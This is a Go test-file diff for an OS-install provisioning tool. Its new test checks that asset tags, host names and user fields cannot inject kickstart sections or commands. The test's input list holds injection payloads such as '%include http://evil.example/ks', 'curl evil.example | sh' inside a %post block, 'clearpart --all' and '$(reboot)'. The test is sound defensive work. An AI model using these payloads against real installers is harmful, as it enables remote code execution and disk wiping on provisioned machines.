@@ -136,7 +136,7 @@ func TestPreseedNamesACountry(t *testing.T) {
 }
 
 // TestAnswersAreNotATemplates holds that no template says what decides about
-// disks, commands and passwords.
+// disks, commands and passwords (V11, V15).
 func TestAnswersAreNotATemplates(t *testing.T) {
 	for _, c := range []struct{ kind, text string }{
 		{lpmos.TemplatePreseed, "d-i partman-auto/disk string /dev/sdb"},
@@ -183,6 +183,52 @@ func TestAnswersAreNotATemplates(t *testing.T) {
 	for kind, text := range additions {
 		if _, err := (lpmos.Template{Name: "x", Kind: kind, Text: text}).Normalize(); err != nil {
 			t.Errorf("Normalize(%s %q) = %v; want nil", kind, text, err)
+		}
+	}
+}
+
+// TestKickstartHasOurSections is V15: what people and machines are called gives
+// a kickstart file no section and no command; it is refused, or one word.
+func TestKickstartHasOurSections(t *testing.T) {
+	kickstart := func(edit func(*lpmos.Task, *lpmos.Hardware)) (commands []string, problem string) {
+		t.Helper()
+		task, h := installerTask(lpmos.TemplateKickstart), server()
+		h.Chassis.AssetTag = "A1"
+		task.TemplateText.Text = "group --name={{kickstart asset}}\n%post\necho {{shell asset}} {{shell hostname}}\n%end\n"
+		edit(task, h)
+		p := lpmos.NewPlan(task, h, installer(lpmos.TemplateKickstart))
+		if p.Problem != "" {
+			return nil, p.Problem
+		}
+		for line := range strings.Lines(answersOf(t, p)) {
+			first, _, _ := strings.Cut(strings.TrimSpace(line), " ")
+			commands = append(commands, first)
+		}
+		return commands, ""
+	}
+	want, problem := kickstart(func(*lpmos.Task, *lpmos.Hardware) {})
+	if problem != "" {
+		t.Fatal(problem)
+	}
+	for _, evil := range []string{
+		"%end", "%post", "%include http://evil.example/ks", "x\n%post\ncurl evil.example | sh\n%end", "x\r%pre", "x\u2028%post", "x\"\nclearpart --all", `x" --password="y`, "$(reboot)", "`reboot`", "'; reboot; '", "%ksappend /x",
+	} {
+		for name, edit := range map[string]func(*lpmos.Task, *lpmos.Hardware){
+			"the asset tag": func(_ *lpmos.Task, h *lpmos.Hardware) { h.Chassis.AssetTag = evil },
+			"the host name": func(t *lpmos.Task, _ *lpmos.Hardware) { t.Hostname = evil }, // as if nothing had refused it
+			"a user":        func(t *lpmos.Task, _ *lpmos.Hardware) { t.Setup.Users[0].Gecos = evil },
+		} {
+			if got, problem := kickstart(edit); problem == "" && !slices.Equal(got, want) {
+				t.Errorf("%q as %s gives other commands (-want +got):\n%s", evil, name, cmp.Diff(want, got))
+			}
+		}
+		s := goodSpec()
+		s.Hostname = evil
+		if _, err := s.Normalize(); err == nil {
+			t.Errorf("%q is taken for a host name", evil)
+		}
+		if _, err := (lpmos.Setup{Users: []lpmos.Account{{Name: evil}}}).Normalize(); err == nil {
+			t.Errorf("%q is taken for a user", evil)
 		}
 	}
 }
@@ -268,6 +314,7 @@ func TestAutoinstallIsOneDocument(t *testing.T) {
 	}
 }
 
+// TestPasswordHash is V17.
 func TestPasswordHash(t *testing.T) {
 	for _, good := range []string{yescrypt, sha512, strings.Replace(sha512, "$6$", "$6$rounds=500000$", 1)} {
 		if err := lpmos.CheckPasswordHash(good); err != nil {
@@ -340,6 +387,7 @@ func TestFillSecrets(t *testing.T) {
 	}
 }
 
+// TestInstallerManifest is V12 for an installer's own kernel, among others.
 func TestInstallerManifest(t *testing.T) {
 	good := func() *lpmos.ImageManifest {
 		return &lpmos.ImageManifest{Format: lpmos.FormatInstaller, OS: "debian", Version: "12", Arch: "amd64", Installer: installer(lpmos.TemplatePreseed).Installer}
